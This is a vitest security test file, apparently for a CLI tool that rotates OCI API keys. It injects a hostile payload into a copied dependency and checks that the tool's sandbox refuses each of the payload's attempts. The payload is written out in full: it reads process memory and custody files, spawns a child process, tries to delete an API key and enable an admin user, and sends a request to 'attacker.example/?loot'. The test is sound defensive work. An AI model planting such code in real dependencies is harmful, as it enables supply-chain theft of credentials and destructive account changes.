/** A dependency of the SDK turns hostile. It runs in the clerk with all that the clerk has; this is what that is worth. */
import { cpSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { execFileSync } from 'node:child_process'
import { tmpdir } from 'node:os'
import { join, resolve } from 'node:path'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { rehearsal } from '../stage/rehearsal.js'

const PROJECT = resolve(import.meta.dirname, '../..')
let copy: string

/** What the module tries as soon as the action uses it, and how it reports: in the words of an error. */
function hostileCode(tries: 'look' | 'ask', scan: string, custody: string, endpoint: string, deletion: string): string {
  return `
;(() => {
  const { DatabaseClient } = module.exports
  const fs = require('node:fs'), net = require('node:net')
  const attempt = (name, run) => { try { const value = run(); return name + ': ' + (value === undefined ? 'DONE' : String(value)).slice(0, 40) } catch (error) { return name + ': ' + (error.code || error.message) } }
  const original = DatabaseClient.prototype.getAutonomousDatabase
  DatabaseClient.prototype.getAutonomousDatabase = async function (...args) {
    const post = this._httpClient
    const said = [
      attempt('memory of others', () => fs.readdirSync('/proc').filter((name) => /^\\d+$/.test(name)).map((pid) => fs.readFileSync('/proc/' + pid + '/mem').length)),
      attempt('scan', () => fs.readFileSync(${JSON.stringify(scan)}).length),
      attempt('custody folder', () => fs.readFileSync(${JSON.stringify(custody)}).length),
      attempt('terminal', () => fs.openSync('/dev/tty', 'r')),
      attempt('pts', () => fs.readdirSync('/dev/pts')),
      attempt('own code', () => fs.writeFileSync(__filename, 'x')),
      attempt('child', () => require('node:child_process').execFileSync('/bin/id')),
      attempt('parent', () => process.kill(process.ppid || 2, 'SIGUSR1')),
      attempt('interfaces', () => Object.keys(require('node:os').networkInterfaces()).length),
    ]
    const url = new URL(${JSON.stringify(endpoint)})
    said.push(await new Promise((resolve) => {
      const socket = net.connect(Number(url.port), url.hostname)
      socket.on('connect', () => resolve('network: DONE')).on('error', (error) => resolve('network: ' + error.code))
    }))
    const ask = (method, uri, body) => post.send({ method, uri, headers: new Headers({ 'x-successor': 'ACTIVE' }), body }).catch(() => undefined)
    if (${JSON.stringify(tries)} === 'ask') {
      await ask('DELETE', ${JSON.stringify(deletion)})
      await ask('POST', ${JSON.stringify(endpoint)} + '/20160918/autonomousDatabases/' + args[0].autonomousDatabaseId + '/actions/configureSaasAdminUser', JSON.stringify({ isEnabled: true, accessType: 'ADMIN', duration: 24 }))
      await ask('GET', 'https://attacker.example/?loot')
      fs.writeSync(3, JSON.stringify({ done: { successor: 'ACTIVE' } }) + '\\n')
    }
    throw new Error(said.join(' | '))
  }
})()
`
}

let pristine: string
beforeAll(() => {
  copy = mkdtempSync(join(tmpdir(), 'glasskey-hostile-'))
  for (const name of ['dist', 'templates', 'package.json']) cpSync(join(PROJECT, name), join(copy, name), { recursive: true })
  execFileSync('cp', ['-al', join(PROJECT, 'node_modules'), join(copy, 'node_modules')])
  // Hard links share their bytes with the project: the package that is changed must be a real copy.
  rmSync(join(copy, 'node_modules', 'oci-database'), { recursive: true })
  cpSync(join(PROJECT, 'node_modules', 'oci-database'), join(copy, 'node_modules', 'oci-database'), { recursive: true })
  pristine = readFileSync(join(copy, 'node_modules/oci-database/index.js'), 'utf8')
})
afterAll(() => {
  rmSync(copy, { recursive: true, force: true })
})

interface Told {
  code: number
  message: string
  grade: string
  refusals: string[]
  deletion: string
}

/** A release with the hostile module in the clerk. The key must be rotated and dead whatever it does. */
async function release(tries: 'look' | 'ask'): Promise<Told> {
  const stage = await rehearsal()
  try {
    const home = stage.cloud.endpoints['eu-frankfurt-1'] ?? ''
    const manifest = JSON.parse(readFileSync(join(stage.custody, 'generations/2/manifest.json'), 'utf8')) as { fingerprint: string }
    const deletion = `${home}/20160918/users/${stage.cloud.seed.users.administrator}/apiKeys/${encodeURIComponent(manifest.fingerprint)}`
    writeFileSync(join(copy, 'node_modules/oci-database/index.js'), pristine + hostileCode(tries, stage.sheet(2, 3), join(stage.custody, 'custody.yaml'), home, deletion))
    const { code, stdout } = await stage.run([...stage.saasAdmin(), '--json'], { cli: join(copy, 'dist/cli.js') })
    expect(stage.listedKeys).toBe(1)
    const told = JSON.parse(stdout) as { error: { message: string } | null; grade: string; refusals: string[] }
    return { code, message: told.error?.message ?? '', grade: told.grade, refusals: told.refusals, deletion }
  } finally {
    await stage.close()
  }
}

const REFUSED_BY_NODE = {
  'memory of others': 'ERR_ACCESS_DENIED',
  scan: 'ERR_ACCESS_DENIED',
  'custody folder': 'ERR_ACCESS_DENIED',
  terminal: 'ERR_ACCESS_DENIED',
  pts: 'ERR_ACCESS_DENIED',
  'own code': 'ERR_ACCESS_DENIED',
  child: 'ERR_ACCESS_DENIED',
  parent: 'ESRCH',
  interfaces: '0',
  network: 'ENETUNREACH',
}

test('it reads no memory, no file, no terminal and no network', async () => {
  const { code, message, grade } = await release('look')
  expect(spoken(message)).toEqual(REFUSED_BY_NODE)
  expect([code, grade]).toEqual([3, 'refused-only'])
})

test('nor without Node\'s permission model, which is only a seat belt: there is nothing there to read', async () => {
  const path = join(copy, 'dist/host/isolation.js')
  const whole = readFileSync(path, 'utf8')
  writeFileSync(path, whole.replace("if (room === 'clerk')", 'if (false)'))
  try {
    const { message } = await release('look')
    expect(spoken(message)).toEqual({
      // Its own memory, process 1 of its own world, is all that /proc has.
      'memory of others': expect.stringMatching(/^(EIO|ERR_FS_FILE_TOO_LARGE|EINVAL|EPERM)$/) as string,
      scan: 'ENOENT',
      'custody folder': 'ENOENT',
      terminal: 'ENOENT',
      pts: 'ENOENT',
      'own code': 'EROFS',
      child: expect.stringContaining('uid=0') as string,
      parent: 'ESRCH',
      interfaces: '0',
      network: 'ENETUNREACH',
    })
  } finally {
    writeFileSync(path, whole)
  }
})

test('it gets no deletion signed, no other body, no other host, and cannot claim what OCI said', async () => {
  const { refusals, deletion, grade, message } = await release('ask')
  expect(refusals).toEqual([
    `DELETE ${deletion.slice(0, 160)}… is not in the warrant`,
    expect.stringMatching(/^POST .*configureSaasAdminUser is not in the warrant$|^POST .*… is not in the warrant$/) as string,
    'GET https://attacker.example/?loot is not in the warrant',
  ])
  expect(grade).toBe('refused-only')
  expect(message).toBe('the clerk said that it was done, and OCI was never asked for it')
})

/** What the hostile module reported in the words of its error. */
function spoken(message: string): Record<string, string> {
  return Object.fromEntries(message.split(' | ').map((part) => [part.slice(0, part.indexOf(': ')), part.slice(part.indexOf(': ') + 2)]))
}
